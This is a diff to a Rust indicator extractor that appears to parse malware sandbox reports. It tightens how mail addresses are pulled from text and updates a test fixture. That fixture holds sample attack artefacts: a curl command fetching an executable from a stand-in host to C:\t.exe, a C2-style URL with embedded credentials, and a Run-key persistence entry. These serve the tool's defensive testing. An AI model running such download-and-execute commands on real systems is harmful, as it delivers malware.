@@ -339,8 +339,10 @@ fn host(text: &str) -> Option<Untrusted> {
 
 fn mail(text: &str) -> Option<Untrusted> {
     let text = text.trim_start_matches("mailto:");
+    // A miner's user and its mail address, a path and a file's name: what stands before a slash is something else.
+    let text = text.rsplit(['/', '\\']).next().unwrap_or(text);
     let (user, domain) = text.rsplit_once('@')?;
-    let is_user = !user.is_empty() && user.chars().all(|c| c.is_alphanumeric() || ".!#$%&*+/?^_~-".contains(c));
+    let is_user = !user.is_empty() && user.chars().all(|c| c.is_alphanumeric() || ".!#$%&*+?^_~-".contains(c));
     (is_user && domain.is_ascii() && host(domain).is_some()).then(|| Untrusted::from(text))
 }
 
@@ -385,7 +387,7 @@ mod tests {
             "http_conversations":[{{"url":"https://u:p@c2.example:8443/x?y"}},{{"url":"no url"}},{{"url":"http://[2001:DB8::1]:80/"}}],
             "ip_traffic":[{{"destination_ip":"192.0.2.7"}}],"mutexes_created":["Global\\m"],"tls":[{{"sni":"203.0.113.5"}}],
             "registry_keys_set":[{{"key":"HKCU\\Run","value":"\"C:\\Program Files\\x.exe\" /q"}}],"modules_loaded":["1.2.3.4"],
-            "command_executions":["curl http://d.example/f -o C:\\t.exe, mail me@m.example to 198.51.100.2:443 v1.2"]}}"#
+            "command_executions":["curl http://d.example/f -o C:\\t.exe, mail 4BrL.1/me@m.example to 198.51.100.2:443 v1.2"]}}"#
         );
         assert_eq!(
             found(&json),
